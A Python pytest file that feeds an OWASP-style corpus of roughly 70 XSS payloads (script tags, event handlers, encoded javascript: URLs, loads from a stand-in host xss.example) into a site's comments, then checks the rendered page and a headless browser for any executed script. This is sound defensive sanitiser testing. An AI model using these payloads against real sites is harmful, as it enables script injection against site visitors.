"""An XSS corpus (OWASP filter-evasion style) in comment text, author name and author URL.

Every payload is imported (moderation off, so that all of them are published), the
site is built, and the page must hold no script, no event handler, no ``javascript:``
URL: checked in the HTML with BeautifulSoup and in Debian's chromium, where no
dialog may open and no request may leave 127.0.0.1.
"""

from __future__ import annotations

import html
import json
import re
import shutil
from urllib.parse import unquote, urlsplit

import pytest

from tests.comments.conftest import DATA, import_file
from tests.conftest import build_site, serve_folder

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<svg/onload=alert("XSS")>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',  # noqa: E501
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">clic</a>',
    '<a href="java&#0000009;script:alert(1)">clic</a>',
    '<a href=" javascript:alert(1)">clic</a>',
    '<a href="javascript&colon;alert(1)">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">clic</a>',
    '<form action="javascript:alert(1)"><button>Envoyer</button></form>',
    '<button formaction="javascript:alert(1)">clic</button>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<p style="color:red" onclick=alert(1)>texte</p>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<base href="javascript:alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</li></ol><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
]
BANNED_TAGS = [
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "form",
    "input",
    "button",
    "img",
    "meta",
    "link",
    "base",
    "video",
    "audio",
    "source",
    "details",
    "template",
    "noscript",
    "bgsound",
    "table",
    "body",
    "title",
]


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("xss")
    content = tmp / "content"
    shutil.copytree(DATA / "site", content)
    rows = [
        {
            "id": str(number),
            "thread": "un-guide-sans-commentaire",
            "author": payload,
            "author_url": payload,
            "date": f"2024-01-01T{10 + number // 60}:{number % 60:02d}:00Z",
            "text": payload,
        }
        for number, payload in enumerate(PAYLOADS, start=1)
    ]
    export = tmp / "xss.json"
    export.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    # Moderation off: every payload must reach the page, or the test proves nothing.
    off = {"COMMENTS_MODERATION_LISTS": {}, "COMMENTS_MAX_LINKS": -1}
    import_file(content, export, settings=off)
    return build_site(tmp, content=content, **off)


def _normal_url(value: str) -> str:
    value = unquote(html.unescape(value))
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def test_no_script_handler_or_javascript_url_in_html(xss_site):
    page = xss_site.html("/un-guide-sans-commentaire/")
    section = page.select_one("section.comments")
    assert len(section.select("[data-comment-id]")) == len(PAYLOADS)
    for name in BANNED_TAGS:
        assert section.find(name) is None, name
    for tag in section.find_all(True):
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), tag
            assert attribute in {
                "class",
                "id",
                "href",
                "rel",
                "title",
                "datetime",
                "hidden",
                "data-comment-id",
                "aria-labelledby",
            }, tag
            if attribute == "href":
                url = _normal_url(value)
                assert url.startswith(("http://", "https://", "#", "/")), tag
                assert "javascript:" not in url and "vbscript:" not in url
    # The page has no script but the theme's own files.
    scripts = [s.get("src", "") for s in page.find_all("script")]
    assert all(s and urlsplit(s).netloc == "" for s in scripts), scripts
    # Author names are text: the payload shows as typed, escaped.
    names = [a.get_text() for a in section.select(".comment-author")]
    assert "<script>alert(1)</script>" in names


@pytest.mark.browser
def test_no_dialog_and_no_outside_request_in_chromium(xss_site, page):
    url, server = serve_folder(xss_site.output)
    dialogs, outside = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            outside.append(request.url)
            if urlsplit(request.url).hostname not in {"127.0.0.1", None}
            else None
        ),
    )
    try:
        page.goto(f"{url}/un-guide-sans-commentaire/", wait_until="load")
        # Hover and click every comment link and body, as a curious reader would.
        for element in page.locator("section.comments .comment-body, section.comments a").all()[
            :200
        ]:
            if element.is_visible():
                element.hover(timeout=2000)
        for link in page.locator("section.comments .comment-body a").all():
            if link.is_visible():
                link.click(modifiers=["Control"], timeout=2000, no_wait_after=True)
        page.wait_for_timeout(300)
        count = page.locator("[data-comment-id]").count()
    finally:
        server.shutdown()
    assert count == len(PAYLOADS)
    assert dialogs == []
    assert outside == []
